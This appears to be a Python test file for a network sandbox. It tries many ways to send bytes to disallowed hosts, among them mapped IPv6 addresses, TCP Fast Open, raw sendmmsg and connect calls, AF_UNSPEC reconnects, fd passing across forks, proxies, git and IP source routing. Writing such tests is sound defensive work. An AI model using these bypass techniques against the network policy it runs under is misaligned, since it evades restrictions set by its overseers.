"""Bytes to servers that the policy does not name: connections, by every call that makes one."""
import asyncio
import ftplib
import http.client
import os
import select
import smtplib
import socket
import ssl
import struct
import subprocess
import threading
import time
import urllib.request
import xmlrpc.client

from attack.raw import Message, failed, libc, sockaddr, syscall
from attack.stage import attempt

MPTCP, FASTOPEN = 262, 0x20000000
LIMIT = 1.5
# The environment of proxied names the proxy.
DIRECTLY = urllib.request.build_opener(urllib.request.ProxyHandler({}))

def tcp(host, port, family=None, kind=socket.SOCK_STREAM, protocol=0):
    one = socket.socket(family or (socket.AF_INET6 if ":" in host else socket.AF_INET), kind, protocol)
    one.settimeout(LIMIT)
    one.connect((host, port))
    return one


def udp(family=socket.AF_INET):
    one = socket.socket(family, socket.SOCK_DGRAM)
    one.settimeout(LIMIT)
    return one


def say(host, port, word):
    with tcp(host, port) as one:
        one.sendall(word)
        return one.recv(100)


# ---- connections, to each kind of place ----

@attempt("py-tcp-blocked")
def blocked(stage):
    say(stage.blocked4, stage.port, stage.word)


@attempt("py-tcp-other")
def other(stage):
    say(stage.other4, stage.port, stage.word)


@attempt("py-tcp-private")
def private(stage):
    say(stage.private4, stage.port, stage.word)


@attempt("py-tcp-loopback")
def loopback(stage):
    say("127.0.0.1", stage.port, stage.word)


@attempt("py-tcp-loopback-high")
def loopback_high(stage):
    say("127.9.8.7", stage.port, stage.word)


@attempt("py-tcp-zero")
def zero(stage):
    say("0.0.0.0", stage.port, stage.word)


@attempt("py-tcp-loopback6")
def loopback6(stage):
    say("::1", stage.port, stage.word)


@attempt("py-tcp-any6")
def any6(stage):
    say("::", stage.port, stage.word)


@attempt("py-tcp-blocked6")
def blocked6(stage):
    say(stage.blocked6, stage.port, stage.word)


@attempt("py-tcp-mapped")
def mapped(stage):
    say("::ffff:" + stage.blocked4, stage.port, stage.word)


@attempt("py-tcp-mapped-private")
def mapped_private(stage):
    say("::ffff:" + stage.private4, stage.port, stage.word)


@attempt("py-tcp-mapped-loopback")
def mapped_loopback(stage):
    say("::ffff:127.0.0.1", stage.port, stage.word)


@attempt("py-tcp-other-port")
def other_port(stage):
    # The host is allowed, this port of it is not.
    say(stage.allowed4, stage.closed, stage.word)


@attempt("py-tcp-learned-port")
def learned_port(stage):
    socket.getaddrinfo("allowed.test", stage.port)
    say(stage.allowed4, stage.closed, stage.word)


@attempt("py-tcp-connect-ex")
def connect_ex(stage):
    with socket.socket() as one:
        one.connect_ex((stage.blocked4, stage.port))
        one.send(stage.word)


@attempt("py-tcp-asyncio")
def in_loop(stage):
    async def work():
        _, writer = await asyncio.open_connection(stage.blocked4, stage.port)
        writer.write(stage.word)
        await writer.drain()
    asyncio.run(asyncio.wait_for(work(), LIMIT))


@attempt("py-tcp-nonblocking")
def nonblocking(stage):
    with socket.socket() as one:
        one.setblocking(False)
        try:
            one.connect((stage.blocked4, stage.port))
        except BlockingIOError:
            select.select([], [one], [], LIMIT)
        one.send(stage.word)


@attempt("py-tcp-twice")
def twice(stage):
    # A second try after a first one that was refused or is under way.
    with socket.socket() as one:
        one.setblocking(False)
        for _ in range(3):
            one.connect_ex((stage.blocked4, stage.port))
            time.sleep(0.1)
        one.send(stage.word)


@attempt("py-tcp-multipath")
def multipath(stage):
    with tcp(stage.blocked4, stage.port, protocol=MPTCP) as one:
        one.sendall(stage.word)


@attempt("py-tcp-fast-open")
def fast_open(stage):
    with socket.socket() as one:
        one.sendto(stage.word, FASTOPEN, (stage.blocked4, stage.port))
        time.sleep(0.1)


@attempt("py-tcp-fast-open-message")
def fast_open_message(stage):
    with socket.socket() as one:
        one.sendmsg([stage.word], [], FASTOPEN, (stage.blocked4, stage.port))
        time.sleep(0.1)


@attempt("py-tcp-fast-open-many")
def fast_open_many(stage):
    with socket.socket() as one:
        syscall("sendmmsg", one.fileno(), Message(sockaddr(stage.blocked4, stage.port), stage.word).entry, 1, FASTOPEN)
        time.sleep(0.1)


@attempt("py-tcp-fast-open-later")
def fast_open_later(stage):
    # With this option a connect does nothing yet, and the first send connects.
    with socket.socket() as one:
        one.setsockopt(socket.IPPROTO_TCP, 30, 1)
        one.connect((stage.blocked4, stage.port))
        one.send(stage.word)
        time.sleep(0.1)


@attempt("py-tcp-unspecified")
def unspecified(stage):
    # Connected where it may, dissolved by AF_UNSPEC, connected again where it may not.
    with tcp(stage.allowed4, stage.port) as one:
        libc.connect(one.fileno(), struct.pack("=H", socket.AF_UNSPEC) + bytes(14), 16)
        one.connect((stage.blocked4, stage.port))
        one.sendall(stage.word)


@attempt("py-tcp-short-address6")
def short_address(stage):
    # An IPv6 address without its last field, as old programs gave it.
    with socket.socket(socket.AF_INET6) as one:
        failed(libc.connect(one.fileno(), sockaddr(stage.blocked6, stage.port), 24), "connect")
        one.send(stage.word)


@attempt("py-tcp-long-address")
def long_address(stage):
    with socket.socket() as one:
        failed(libc.connect(one.fileno(), sockaddr(stage.blocked4, stage.port) + bytes(112), 128), "connect")
        one.send(stage.word)


@attempt("py-tcp-family6-to-4")
def six_to_four(stage):
    # A socket that becomes an IPv4 one after it was made.
    with socket.socket(socket.AF_INET6) as one:
        one.connect(("::ffff:" + stage.allowed4, stage.port))
        one.setsockopt(socket.IPPROTO_IPV6, 1, socket.AF_INET)
        libc.connect(one.fileno(), bytes(16), 16)
        failed(libc.connect(one.fileno(), sockaddr(stage.blocked4, stage.port), 16), "connect")
        os.write(one.fileno(), stage.word)


@attempt("py-tcp-bound")
def bound(stage):
    with socket.socket() as one:
        one.settimeout(LIMIT)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind(("", 0))
        one.connect((stage.blocked4, stage.port))
        one.sendall(stage.word)


@attempt("py-tcp-child")
def child(stage):
    # The socket is made here, and connected by a child that got it.
    one = socket.socket()
    pid = os.fork()
    if pid == 0:
        one.connect((stage.blocked4, stage.port))
        one.sendall(stage.word)
        os._exit(0)
    os.waitpid(pid, 0)


@attempt("py-tcp-thread")
def thread(stage):
    one = threading.Thread(target=say, args=(stage.blocked4, stage.port, stage.word))
    one.start()
    one.join(LIMIT)


@attempt("py-tcp-duplicate")
def duplicate(stage):
    with socket.socket() as one:
        again = os.dup2(one.fileno(), 200)
        address = sockaddr(stage.blocked4, stage.port)
        failed(libc.connect(again, address, 16), "connect")
        os.write(again, stage.word)


@attempt("py-tcp-passed")
def passed_socket(stage):
    # Connected in one process, after another one has sent it there.
    here, there = socket.socketpair()
    with socket.socket() as one:
        socket.send_fds(here, [b"x"], [one.fileno()])
    if os.fork() == 0:
        _, files, _, _ = socket.recv_fds(there, 1, 1)
        with socket.socket(fileno=files[0]) as one:
            one.connect((stage.blocked4, stage.port))
            one.sendall(stage.word)
        os._exit(0)
    os.wait()


@attempt("py-tcp-http")
def page(stage):
    connection = http.client.HTTPConnection(stage.blocked4, stage.port, timeout=LIMIT)
    connection.request("GET", "/" + stage.word.decode().replace(" ", "/"))


@attempt("py-tcp-urllib")
def url(stage):
    word = stage.word.decode().replace(" ", "+")
    DIRECTLY.open(f"http://{stage.other4}:{stage.port}/{word}", timeout=LIMIT).close()


@attempt("py-tcp-urllib-number")
def url_number(stage):
    number = int.from_bytes(socket.inet_aton(stage.blocked4), "big")
    DIRECTLY.open(f"http://{number}:{stage.port}/{stage.word.decode().replace(' ', '+')}", timeout=LIMIT).close()


@attempt("py-tcp-proxy")
def proxied(stage):
    # An allowed name, through a proxy that is not.
    handler = urllib.request.ProxyHandler({"http": f"http://{stage.blocked4}:{stage.port}"})
    urllib.request.build_opener(handler).open("http://allowed.test/" + stage.word.decode().replace(" ", "+"), timeout=LIMIT)


@attempt("py-tcp-ftp")
def ftp(stage):
    ftplib.FTP().connect(stage.blocked4, stage.port, timeout=0.5)


@attempt("py-tcp-smtp")
def smtp(stage):
    smtplib.SMTP(stage.blocked4, stage.port, stage.id, timeout=0.5)


@attempt("py-tcp-xmlrpc")
def remote_call(stage):
    socket.setdefaulttimeout(LIMIT)
    xmlrpc.client.ServerProxy(f"http://{stage.blocked4}:{stage.port}/").call(stage.id)


@attempt("py-tcp-tls")
def tls(stage):
    context = ssl.create_default_context()
    with tcp(stage.blocked4, stage.port) as one:
        context.wrap_socket(one, server_hostname=f"{stage.id}.test")


@attempt("py-tcp-git")
def git(stage):
    # An allowed program that has a network of its own.
    address = f"git://{stage.blocked4}:{stage.port}/{stage.id}"
    return subprocess.run(["git", "ls-remote", address], capture_output=True, timeout=4, check=False).stderr


@attempt("py-tcp-source-route")
def source_route(stage):
    route(stage, socket.SOCK_STREAM)


@attempt("py-udp-source-route")
def source_route_udp(stage):
    route(stage, socket.SOCK_DGRAM)


def route(stage, kind):
    # The address is allowed; the way there leads over one that is not.
    with socket.socket(socket.AF_INET, kind) as one:
        hops = b"\x01\x83\x07\x04" + socket.inet_aton(stage.blocked4)
        one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, hops)
        one.settimeout(0.3)
        try:
            one.connect((stage.allowed4, stage.port))
        finally:
            one.send(stage.word)
